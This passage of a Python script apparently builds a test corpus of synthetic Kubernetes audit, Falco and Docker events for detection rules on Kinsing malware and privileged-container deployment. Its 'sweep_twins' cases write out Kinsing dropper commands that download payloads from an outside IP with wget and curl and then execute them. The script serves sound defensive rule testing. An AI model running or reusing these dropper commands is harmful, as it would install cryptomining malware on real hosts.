                         "authenticationInfo": {"principalEmail": f"system:node:{node}"},
                         "authorizationInfo": [{"granted": True, "permission": "io.k8s.core.v1.pods.create",
                                                "resource": f"core/v1/namespaces/kube-system/pods/{name}"}],
                         "methodName": "io.k8s.core.v1.pods.create",
                         "request": pod,
                         "requestMetadata": {"callerIp": "10.128.0.7",
                                             "callerSuppliedUserAgent": "kubelet/v1.29.1 (linux/amd64) kubernetes/gke"},
                         "resourceName": f"core/v1/namespaces/kube-system/pods/{name}",
                         "serviceName": "k8s.io", "status": {"code": 0}},
        "insertId": stable_id(name, length=36), "logName": "projects/prod/logs/cloudaudit.googleapis.com%2Factivity",
        "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "prod", "location": "europe-west1",
                                                       "project_id": "prod"}},
        "timestamp": ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ"), "receiveTimestamp": ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ")},
        separators=(",", ":"))


def app_with_ca_and_tz():
    """An ordinary service mounting the node's CA bundle and time zone read-only."""
    pod = spec([ctr("billing", "registry.corp.example/shop/billing:3.1.4", command=["/app/billing"],
                    mounts=[mount("ca-certs", "/etc/ssl/certs", ro=True),
                            mount("ca-pki", "/etc/pki", ro=True),
                            mount("ca-share", "/usr/share/ca-certificates", ro=True),
                            mount("localtime", "/etc/localtime", ro=True),
                            mount("zoneinfo", "/usr/share/zoneinfo", ro=True)],
                    sc={"allowPrivilegeEscalation": False, "runAsNonRoot": True, "runAsUser": 10001,
                        "readOnlyRootFilesystem": True, "capabilities": {"drop": ["ALL"]}})],
               [hp("ca-certs", "/etc/ssl/certs", "Directory"), hp("ca-pki", "/etc/pki", "Directory"),
                hp("ca-share", "/usr/share/ca-certificates", "Directory"),
                hp("localtime", "/etc/localtime", "File"), hp("zoneinfo", "/usr/share/zoneinfo", "Directory")],
               sa="billing", priority=None)
    return installed("Deployment", "billing", "shop", pod,
                     "system:serviceaccount:argocd:argocd-application-controller",
                     "argocd-application-controller/v2.10")


# ---- security sweeps ----------------------------------------------------------

SWEEPS = [["sh", "-c", "test -f /tmp/kdevtmpfsi && echo FOUND || echo clean"],
          ["ls", "-la", "/tmp/kinsing", "/tmp/kdevtmpfsi", "/var/tmp/kinsing"],
          ["stat", "/tmp/kdevtmpfsi"],
          ["sh", "-c", "[ -e /tmp/kinsing ] && echo kinsing; [ -e /etc/libsystem.so ] && echo libsystem; true"],
          ["/bin/sh", "-c", "test -e /tmp/libsystem.so || exit 0"]]


def pct(s):
    from urllib.parse import quote
    return quote(s, safe="")


def sweeps():
    out = []
    scanner = "system:serviceaccount:security:ioc-sweeper"
    for i, cmd in enumerate(SWEEPS):
        q = "&".join(f"command={pct(a)}" for a in cmd) + "&container=web&stderr=true&stdout=true"
        out.append(audit(t(), "create", "pods", "shop", user=scanner, name=f"web-7d9c5-{i}abcd",
                         subresource="exec", query=q, user_agent="ioc-sweeper/1.4 (linux/amd64)"))
    for cmd in SWEEPS:
        line = " ".join(cmd)
        out.append(falco_alert(t(), "Terminal shell in container" if cmd[0].endswith("sh") else
                               "Run shell untrusted", "Notice",
                               {"proc.cmdline": line, "proc.name": cmd[0].rsplit("/", 1)[-1],
                                "proc.exepath": cmd[0] if cmd[0].startswith("/") else "/usr/bin/" + cmd[0],
                                "proc.pname": "runc", "evt.type": "execve"},
                               tags=["container", "shell", "mitre_execution"]))
    cid = stable_id("docker", "web")
    for cmd in SWEEPS[:3]:
        line = " ".join(cmd)
        eid = stable_id(line, "exec")
        out.append(docker_event(t(), "exec_create: " + line, cid, "registry.corp.example/shop/web:2.3.1",
                                "web", extra={"execID": eid}))
        out.append(docker_event(t(), "exec_start: " + line, cid, "registry.corp.example/shop/web:2.3.1",
                                "web", extra={"execID": eid}))
    return out


def sweep_twins():
    """Existence tests that go on to fetch or run the file: Kinsing's own
    dropper checks for its files first."""
    out = []
    for line in ["[ -f /tmp/kdevtmpfsi ] || wget -q -O /tmp/kdevtmpfsi http://194.38.20.199/kdevtmpfsi",
                 "test -x /tmp/kinsing && /tmp/kinsing",
                 "ls /tmp/kinsing | sh"]:
        out.append(falco_alert(t(), "Run shell untrusted", "Notice",
                               {"proc.cmdline": "sh -c " + line, "proc.name": "sh",
                                "proc.exepath": "/bin/sh", "proc.pname": "runc"}))
    q = "&".join(f"command={pct(a)}" for a in ["sh", "-c", "test -f /tmp/kinsing || curl -so /tmp/kinsing "
                                                "http://194.38.20.199/kinsing; chmod +x /tmp/kinsing"])
    out.append(audit(t(), "create", "pods", "shop", user="alice@corp.example", name="web-7d9c5-0abcd",
                     subresource="exec", query=q + "&container=web&stderr=true&stdout=true"))
    # a pod whose sweep-like sidecar stands beside the container that drops the file
    pod = spec([ctr("app", "ubuntu:22.04", command=["sh", "-c", "cp /opt/k /tmp/kinsing && chmod +x /tmp/kinsing"]),
                ctr("check", "busybox:1.36", command=["ls", "/tmp/kinsing"])], priority=None)
    obj = {"kind": "Pod", "apiVersion": "v1",
           "metadata": {"name": "dropper", "namespace": "default", "creationTimestamp": None}, "spec": pod}
    out.append(audit(t(), "create", "pods", "default", user="alice@corp.example", name="dropper",
                     request_object=obj))
    return out


# ---- the corpus -----------------------------------------------------------------

def benign():
    out = []
    out += control_plane("cp-1")
    out += control_plane("cp-2")
    out += installed("DaemonSet", "kube-proxy", "kube-system",
                     kube_proxy("registry.k8s.io/kube-proxy:v1.29.2"), ADMIN,
                     "kubeadm/v1.29.2 (linux/amd64) kubernetes/4b8e819")
    out += installed("Deployment", "tigera-operator", "tigera-operator", tigera_operator(), ADMIN, HELM_UA,
                     nodes=("worker-1",))
    out += installed("DaemonSet", "calico-node", "calico-system", calico_node(), TIGERA,
                     "operator/v0.0.0 (linux/amd64) kubernetes/$Format")
    out += installed("DaemonSet", "csi-node-driver", "calico-system", calico_csi(), TIGERA,
                     "operator/v0.0.0 (linux/amd64) kubernetes/$Format")
    out += installed("DaemonSet", "cilium", "kube-system", cilium_agent(), ADMIN, HELM_UA)
    out += installed("Deployment", "cilium-operator", "kube-system", cilium_operator(), ADMIN, HELM_UA,
                     nodes=("worker-1",))
    out += installed("DaemonSet", "kube-prometheus-stack-prometheus-node-exporter", "monitoring",
                     node_exporter(), "system:serviceaccount:argocd:argocd-application-controller",
                     "argocd-application-controller/v2.10")
    out += installed("DaemonSet", "fluent-bit", "logging", fluent_bit(), "ops@corp.example", HELM_UA)
    out += app_with_ca_and_tz()
    # AKS
    out += installed("DaemonSet", "azure-ip-masq-agent", "kube-system", aks_ip_masq(), "aksService",
                     "addon-manager/v1.28")
    out += installed("DaemonSet", "cloud-node-manager", "kube-system", aks_cloud_node_manager(),
                     "aksService", "addon-manager/v1.28")
    out += installed("DaemonSet", "csi-azuredisk-node", "kube-system", csi_node(
        "mcr.microsoft.com/oss/kubernetes-csi/azuredisk-csi:v1.29.2",
        "mcr.microsoft.com/oss/kubernetes-csi/csi-node-driver-registrar:v2.9.2",
        "mcr.microsoft.com/oss/kubernetes-csi/livenessprobe:v2.11.0", "disk.csi.azure.com",
        "csi-azuredisk-node-sa",
        extra_vols=[hp("azure-cred", "/etc/kubernetes/", "DirectoryOrCreate"),
                    hp("sys-devices-dir", "/sys/bus/scsi/devices", "Directory"),
                    hp("scsi-host-dir", "/sys/class/", "Directory")],
        extra_mounts=[mount("azure-cred", "/etc/kubernetes/"), mount("sys-devices-dir", "/sys/bus/scsi/devices"),
                      mount("scsi-host-dir", "/sys/class/")]), "aksService", "addon-manager/v1.28")
    out += installed("DaemonSet", "kube-proxy", "kube-system",
                     kube_proxy("mcr.microsoft.com/oss/kubernetes/kube-proxy:v1.28.5-hotfix.20240411"),
                     "aksService", "addon-manager/v1.28", nodes=("aks-nodepool1-0",))
    # EKS
    out += installed("DaemonSet", "aws-node", "kube-system", aws_node(), "eks:addon-manager",
                     "eks-addon-manager/v1.29")
    out += installed("DaemonSet", "kube-proxy", "kube-system",
                     kube_proxy(f"{ECR}/eks/kube-proxy:v1.29.0-minimal-eksbuild.1"), "eks:addon-manager",
                     "eks-addon-manager/v1.29", nodes=("ip-10-0-1-23.us-west-2.compute.internal",))
    out += installed("DaemonSet", "ebs-csi-node", "kube-system", csi_node(
        f"{ECR}/eks/aws-ebs-csi-driver:v1.28.0", f"{ECR}/eks/csi-node-driver-registrar:v2.10.0-eks-1-29-5",
        f"{ECR}/eks/livenessprobe:v2.12.0-eks-1-29-5", "ebs.csi.aws.com", "ebs-csi-node-sa",
        extra_vols=[hp("probe-dir", "/dev", "Directory")]), "eks:addon-manager", "eks-addon-manager/v1.29")
    # GKE
    out.append(gke_mirror_kube_proxy())
    out += installed("DaemonSet", "gke-metadata-server", "kube-system", gke_metadata_server(),
                     "system:addon-manager", "kubectl/v1.29.1 (linux/amd64) addon-manager")
    out += installed("DaemonSet", "netd", "kube-system", gke_netd(), "system:addon-manager",
                     "kubectl/v1.29.1 (linux/amd64) addon-manager")
    out += installed("DaemonSet", "pdcsi-node", "kube-system", csi_node(
        "gke.gcr.io/gcp-compute-persistent-disk-csi-driver:v1.12.7-gke.0",
        "gke.gcr.io/csi-node-driver-registrar:v2.9.0-gke.3",
        "registry.k8s.io/sig-storage/livenessprobe:v2.11.0", "pd.csi.storage.gke.io", "pdcsi-node-sa",
        extra_vols=[hp("udev-rules-etc", "/etc/udev", "Directory"), hp("udev-rules-lib", "/lib/udev", "Directory"),
                    hp("udev-socket", "/run/udev", "Directory"), hp("sys", "/sys", "Directory")],
        extra_mounts=[mount("udev-rules-etc", "/etc/udev"), mount("udev-rules-lib", "/lib/udev"),
                      mount("udev-socket", "/run/udev"), mount("sys", "/sys")]),
        "system:addon-manager", "kubectl/v1.29.1 (linux/amd64) addon-manager")
    out += installed("DaemonSet", "fluentbit-gke", "kube-system", gke_fluentbit(), "system:addon-manager",
                     "kubectl/v1.29.1 (linux/amd64) addon-manager")
    out += sweeps()
    return out


def twins():
    """Each case: (rule file stem, events). The image is allow-listed but the
    namespace or the principal is not the component's."""
    alice = "alice@corp.example"
    kubectl = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
    calico = calico_node()
    # a privileged pod from the kube-proxy image in default, by a person
    kp_pod = {"kind": "Pod", "apiVersion": "v1",
              "metadata": {"name": "kube-proxy-debug", "namespace": "default", "creationTimestamp": None},
              "spec": kube_proxy("registry.k8s.io/kube-proxy:v1.29.2")}
    kp_pod["spec"]["containers"][0]["command"] = ["sh", "-c", "sleep infinity"]
    # the calico image with a privileged sidecar, in calico-system, by a person
    sidecar = copy.deepcopy(calico)
    sidecar["containers"].append(ctr("helper", "docker.io/library/alpine:3.19",
                                     command=["sh", "-c", "sleep infinity"], sc={"privileged": True},
                                     mounts=[mount("nodeproc", "/host/proc")]))
    sidecar_pod = {"kind": "Pod", "apiVersion": "v1",
                   "metadata": {"name": "calico-node-x", "namespace": "calico-system",
                                "creationTimestamp": None}, "spec": sidecar}
    # the calico DaemonSet in default by the operator's own account is still out of place
    cal_default = daemonset("calico-node", "default", copy.deepcopy(calico))
    # a DaemonSet in calico-system from the Calico image, written by a person
    cal_user = daemonset("calico-node", "calico-system", copy.deepcopy(calico))
    # the daemon-set controller's pod of that DaemonSet in default
    ctrl_default = pod_of("DaemonSet", "calico-node", "default", calico, "worker-1")
    # a kubelet mirror pod that is not a control-plane image
    rogue_mirror = static_pod("kube-apiserver", "docker.io/library/alpine:3.19",
                              ["sh", "-c", "sleep infinity"], CERT_MOUNTS, "worker-3")
    # node-exporter image in default, by a person
    ne_pod = {"kind": "Pod", "apiVersion": "v1",
              "metadata": {"name": "node-exporter", "namespace": "default", "creationTimestamp": None},
              "spec": node_exporter()}
    # cilium image with its capabilities in kube-system by someone who is not an installer
    cil = daemonset("cilium", "kube-system", cilium_agent())

    def ev(resource, ns, obj, user, ua=kubectl):
        return audit(t(), "create", resource, ns, user=user, name=obj["metadata"]["name"],
                     request_object=obj, user_agent=ua, level="RequestResponse",
                     source_ip="10.20.0.15" if not user.startswith("system:") else "10.0.0.10")

    # node-exporter from a deploy account that is not in platform_installers
    ne_ci = daemonset("node-exporter", "monitoring", node_exporter())
    # the EKS VPC CNI image in default, by a person
    aws_pod = {"kind": "Pod", "apiVersion": "v1",
               "metadata": {"name": "aws-node-debug", "namespace": "default", "creationTimestamp": None},
               "spec": aws_node()}

    priv = [ev("pods", "default", kp_pod, alice),
            ev("pods", "calico-system", sidecar_pod, alice),
            ev("daemonsets", "default", cal_default, TIGERA),
            ev("daemonsets", "calico-system", cal_user, alice),
            ev("pods", "default", ctrl_default, DS_CTRL, KUBE_UA)]
    priv.append(ev("pods", "default", aws_pod, alice))
    mounts = [ev("pods", "kube-system", rogue_mirror, "system:node:worker-3",
                 "kubelet/v1.29.2 (linux/amd64) kubernetes/4b8e819"),
              ev("pods", "default", ne_pod, alice),
              ev("daemonsets", "monitoring", ne_ci, "system:serviceaccount:ci:deployer")]
    caps = [ev("daemonsets", "kube-system", cil, "bob@corp.example", HELM_UA)]
    return {
        ("t1610", "privileged_container_deployed", "pos"): priv,
        ("t1610", "escape_ready_container_deployed", "pos"): priv[1:5],
        ("t1610", "sensitive_host_path_mounted", "pos"): mounts,
        ("t1610", "host_pid_container_deployed", "pos"): mounts[1:],
        # node-exporter mounts / read-only: host_root_bind_mounted asks for a
        # writable /, sensitive_host_path_mounted above reports these twins
        ("t1610", "dangerous_capability_added", "pos"): caps + priv[5:],
        ("kinsing", "kinsing_process_or_file", "pos"): sweep_twins(),
        ("kinsing", "kinsing_process_or_file", "neg"): sweeps(),
        ("t1610", "host_network_container_deployed", "pos"): priv[:1] + mounts + caps,
        ("t1610", "system_namespace_unexpected_image", "pos"): [mounts[0]],
    }


def main():
    root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "corpus")
    with open(os.path.join(root, "benign", "platform-components.jsonl"), "w") as f:
        for line in benign():
            f.write(line + "\n")
    for (pack, rule, kind), events in twins().items():
        with open(os.path.join(root, pack, f"{rule}.{kind}.platform.jsonl"), "w") as f:
            for line in events:
                f.write(line + "\n")


if __name__ == "__main__":
    main()
